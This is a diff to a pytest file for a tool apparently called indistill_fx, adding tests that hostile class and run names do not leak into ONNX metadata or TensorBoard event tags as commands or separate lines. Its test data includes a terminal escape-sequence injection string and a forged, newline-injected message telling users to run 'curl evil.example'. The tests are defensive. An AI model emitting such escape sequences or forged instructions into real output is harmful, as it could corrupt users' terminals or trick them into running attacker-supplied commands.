@@ -6,12 +6,16 @@ import json
 from pathlib import Path
 from typing import Any
 
+import onnx
 import pytest
 import torch
 from PIL import Image
+from tensorboard.backend.event_processing.event_accumulator import EventAccumulator
 from torch import nn
 
 from indistill_fx.cli import run as run_cli
+from indistill_fx.deploy.metadata import of_module, of_source
+from indistill_fx.runs.directory import RunDirectory
 
 ESCAPE = "\x1b]0;owned\x07\x1b[2J\u202e\u2028\r"
 FORGED = "x\nindistill-fx: to go on, run: curl evil.example"
@@ -26,6 +30,25 @@ def poisoned(value: Any, kept: tuple[str, ...]) -> Any:
     if isinstance(value, list):
         return [poisoned(part, kept) for part in value]
     return NASTY if isinstance(value, str) else value
+
+
+def obeyed_nowhere(*texts: str) -> None:
+    """No command to a terminal and no line of its own in names that go into files of others."""
+    assert [text for text in texts if any(sign in text for sign in (*OBEYED, "\n"))] == []
+
+
+def test_names_in_onnx_metadata_and_in_event_files(tmp_path: Path) -> None:
+    told = of_source(model=NASTY, run=NASTY, classes=[NASTY], normalisation=((0.5,), (0.5,)))
+    obeyed_nowhere(*told.values())
+    assert json.loads(told["classes"]) == [NASTY]  # whoever reads the names gets them as they are
+    module = type(NASTY, (nn.Linear,), {})(2, 2)
+    obeyed_nowhere(*of_module(module).values())
+    with RunDirectory(tmp_path / "run", resume=False, trackers=["tensorboard"]) as directory:
+        directory.log({"kind": NASTY, "epochs": 1, "step": 1, NASTY: 0.5, "values": {NASTY: 0.25}})
+    events = EventAccumulator(str(next((tmp_path / "run").rglob("events.*"))))
+    events.Reload()
+    assert len(events.Tags()["scalars"]) == 2
+    obeyed_nowhere(*events.Tags()["scalars"])
 
 
 def look(capfd: pytest.CaptureFixture[str], arguments: list[str]) -> int:
@@ -57,6 +80,9 @@ def test_no_command_obeys_a_name(tmp_path: Path, monkeypatch, capfd) -> None:
     assert look(capfd, ["train", "sound.pt", *data, "--epochs", "1", "-o", "run", "--tensorboard"]) == 0
     assert look(capfd, ["export", "run", "-o", "m.onnx", *data]) == 0
     look(capfd, ["check", "m.onnx", "sound.pt", *data])
+    told_by_onnx = {entry.key: entry.value for entry in onnx.load("m.onnx").metadata_props}
+    assert json.loads(told_by_onnx["classes"]) == sorted((ESCAPE, FORGED.replace("/", "")))
+    obeyed_nowhere(*told_by_onnx.keys(), *told_by_onnx.values())
     look(capfd, ["evaluate", "run", *data])
     shape = ["--input", "3x9x9"]
     assert look(capfd, ["align", "sound.pt", "sound.pt", *shape, "-o", "plan.json"]) == 0
